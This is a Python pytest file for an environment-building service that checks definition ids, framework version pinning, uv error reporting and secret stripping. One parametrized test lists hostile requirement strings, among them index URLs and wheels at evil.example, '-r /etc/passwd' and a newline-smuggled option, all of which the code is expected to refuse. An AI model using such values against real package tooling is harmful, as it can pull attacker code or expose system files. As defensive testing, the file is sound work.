"""What a definition is, what its id depends on, and what is refused."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.chassis.environments import BuildError, Definition, definition, uv
from services.chassis.environments.errors import build_failed


@given(
    st.permutations(["pandas", "scikit-learn>=1.0,<2", "requests[socks]", "six==1.16.0"]),
    st.lists(st.sampled_from(["pandas", "six==1.16.0"])),
)
def test_order_and_duplicates_of_packages_do_not_change_the_id(packages: list[str], again: list[str]) -> None:
    plain = definition("tensorflow", "", ["pandas", "scikit-learn>=1.0,<2", "requests[socks]", "six==1.16.0"])

    shuffled = definition("tensorflow", "", [*packages, *again])

    assert shuffled == plain
    assert shuffled.id == plain.id


@pytest.mark.parametrize("same", ["Scikit_Learn >=1.0, <2", "scikit-learn<2,>=1.0", "scikit.learn>=1.0,<2"])
def test_spelling_of_a_requirement_does_not_change_the_id(same: str) -> None:
    assert definition("none", "", [same]).id == definition("none", "", ["scikit-learn>=1.0,<2"]).id


def test_definitions_that_differ_have_ids_that_differ() -> None:
    definitions = [
        definition("none", "", []),
        definition("none", "", ["six"]),
        definition("none", "", ["six==1.16.0"]),
        definition("tensorflow", "", ["six"]),
        definition("tensorflow", "2.21", ["six"]),
        Definition(("six",), (), "3.12"),
        Definition(("six",), ("six<2",), "3.11"),
        Definition(("six",), (), "3.11", ("cudatoolkit",)),
        Definition(("six",), (), "3.11", ("cudatoolkit",), ("conda-forge",)),
    ]

    assert len({each.id for each in definitions}) == len(definitions)


def test_an_id_is_the_same_on_every_machine() -> None:
    written_down = Definition(("pandas==2.2.3", "tensorflow-cpu==2.15.1"), ("numpy<1.24",), "3.11")

    assert written_down.id == "0ebe78043dfa63e7cbd3548c"


@pytest.mark.parametrize(
    ("version", "pinned"),
    [
        ("", "2.15.1"),
        ("2.0", "2.15.1"),
        ("2.0.0", "2.15.1"),
        ("2.4.1", "2.15.1"),
        ("2.15", "2.15.1"),
        ("2.15.1", "2.15.1"),
        ("2.16", "2.16.2"),
        ("2.17.0", "2.17.1"),
        ("2.18", "2.18.1"),
        ("2.19.0", "2.19.1"),
        ("2.20.0", "2.20.0"),
        ("2.21", "2.21.0"),
    ],
)
def test_a_framework_version_is_served_by_the_newest_release_of_its_line(version: str, pinned: str) -> None:
    made = definition("tensorflow", version, [])

    assert f"tensorflow-cpu=={pinned}" in made.requirements
    assert f"tensorflow=={pinned}" in made.constraints


def test_the_keras_2_line_keeps_numpy_before_1_24_and_later_lines_do_not() -> None:
    assert "numpy<1.24" in definition("tensorflow", "2.3", []).constraints
    assert not any(line.startswith("numpy") for line in definition("tensorflow", "2.16", []).constraints)


@pytest.mark.parametrize("framework", ["none", ""])
def test_no_framework_brings_only_the_packages_and_the_platforms_own(framework: str) -> None:
    made = definition(framework, "", ["six"], extra=["grpcio==1.85.1"])

    assert made.requirements == ("grpcio==1.85.1", "six")
    assert made.constraints == ()


@pytest.mark.parametrize("version", ["1.0", "1.13", "1.15.2"])
def test_code_of_tensorflow_1_is_served_by_the_keras_2_line(version: str) -> None:
    assert definition("tensorflow", version, []) == definition("tensorflow", "2.15", [])


@pytest.mark.parametrize("version", ["2", "2.22", "3.0", "1.16", "latest", "2.15.1rc0", "2.15\n", "-1.2", "2.1_5"])
def test_an_unknown_version_is_refused_with_what_is_supported(version: str) -> None:
    with pytest.raises(BuildError, match=r"2\.0 to 2\.15 .* and 2\.16 to 2\.21") as caught:
        definition("tensorflow", version, [])

    assert caught.value.code == "UserError"


def test_an_unknown_framework_is_refused_with_those_that_there_are() -> None:
    with pytest.raises(BuildError, match="'tensorflow' and 'none'") as caught:
        definition("pytorch", "", [])

    assert (caught.value.code, caught.value.target) == ("UserError", "pytorch")


@pytest.mark.parametrize(
    "hostile",
    [
        "--index-url=http://evil.example/simple",
        "-r /etc/passwd",
        "-e .",
        "six @ http://evil.example/six-1.0-py3-none-any.whl",
        "six @ file:///etc/six.whl",
        "git+https://evil.example/six.git",
        "./six",
        "/six",
        "../six-1.0.tar.gz",
        "six\n--index-url=http://evil.example",
        "six\r",
        "six\x00",
        "six --hash=sha256:00",
        "six==",
        "",
        "two words",
    ],
)
def test_what_is_no_plain_requirement_is_refused_by_name(hostile: str) -> None:
    with pytest.raises(BuildError) as caught:
        definition("none", "", ["pandas", hostile])

    assert caught.value.code == "UserError"
    assert caught.value.target == hostile


def test_uv_is_given_what_reaches_an_index_and_no_secret_of_ours() -> None:
    ours = {
        "PATH": "/bin",
        "https_proxy": "http://proxy:3128",
        "SSL_CERT_FILE": "/certificates.pem",
        "UV_INDEX_CORP_PASSWORD": "for the index",
        "PIP_INDEX_URL": "https://mirror.example/simple",
        "TRAINYARD_OBJECT_STORE__SECRET_KEY": "secret",
        "AWS_SECRET_ACCESS_KEY": "secret",
        "MINIO_ROOT_PASSWORD": "secret",
        "GITHUB_TOKEN": "secret",
        "UV_PUBLISH_TOKEN": "secret",
        "UV_CACHE_DIR": "/elsewhere",
        "UV_OVERRIDE": "other.txt",
        "PYTHONPATH": "/ours",
        "VIRTUAL_ENV": "/ours/.venv",
    }

    given = uv.environment(ours)

    assert given == {
        "PATH": "/bin",
        "https_proxy": "http://proxy:3128",
        "SSL_CERT_FILE": "/certificates.pem",
        "UV_INDEX_CORP_PASSWORD": "for the index",
        "PIP_INDEX_URL": "https://mirror.example/simple",
        "UV_DEFAULT_INDEX": "https://mirror.example/simple",
        "UV_PYTHON_DOWNLOADS": "never",
        "UV_NO_PROGRESS": "1",
        "NO_COLOR": "1",
    }


_CONFLICT = """\
Using Python 3.11.7 environment at: e1
error: No solution found when resolving dependencies
  cause: Because tensorflow-cpu==2.15.1 depends on numpy>=1.23.5,<2.0.0 and you require tensorflow-cpu==2.15.1, we can conclude that you
         require numpy>=1.23.5,<2.0.0.
         And because you require numpy>=2, we can conclude that your requirements are unsatisfiable.

hint: this is too much for a sentence
"""
_BUILD = """\
Resolved 1 package in 481ms
   Building scikit-learn==0.17
error: Failed to build `scikit-learn==0.17`
  cause: The build backend returned an error
  cause: Call to `setuptools.build_meta:__legacy__.get_requires_for_build_wheel` failed (exit status: 1)

         [stderr]
         ModuleNotFoundError: No module named 'pkg_resources'
"""
_NO_WHEEL = """\
error: No solution found when resolving dependencies
  cause: Because numpy==1.10.0 has no wheels with a matching Python ABI tag (e.g., `cp311`) and you require numpy==1.10.0, we can conclude.
"""
_OFFLINE = """\
error: Request failed after 3 retries in 6.7s
  cause: Failed to fetch: http://127.0.0.1:9/attrs/
  cause: Connection refused (os error 111)
"""


@pytest.mark.parametrize(
    ("output", "target", "sentence"),
    [
        (_CONFLICT, "tensorflow-cpu", "And because you require numpy>=2, we can conclude that your requirements are unsatisfiable."),
        (_BUILD, "scikit-learn", "Failed to build `scikit-learn==0.17`: The build backend returned an error"),
        (_NO_WHEEL, "numpy", "has no wheels with a matching Python ABI tag"),
        (_OFFLINE, "", "Request failed after 3 retries in 6.7s: Failed to fetch: http://127.0.0.1:9/attrs/: Connection refused"),
        ("  × No solution\n  ╰─▶ Because six was not found in the registry", "six", "No solution Because six was not found"),
    ],
)
def test_a_failure_repeats_uvs_reason_and_names_the_package(output: str, target: str, sentence: str) -> None:
    failure = build_failed(output.splitlines())

    assert failure.code == "EnvironmentBuildFailed"
    assert failure.target == target
    assert sentence in failure.message
    assert "hint" not in failure.message
    assert failure.last_lines == output.splitlines()[-20:]


def test_only_the_end_of_a_long_output_is_kept() -> None:
    failure = build_failed([f"line {number}" for number in range(1000)])

    assert failure.last_lines == [f"line {number}" for number in range(980, 1000)]
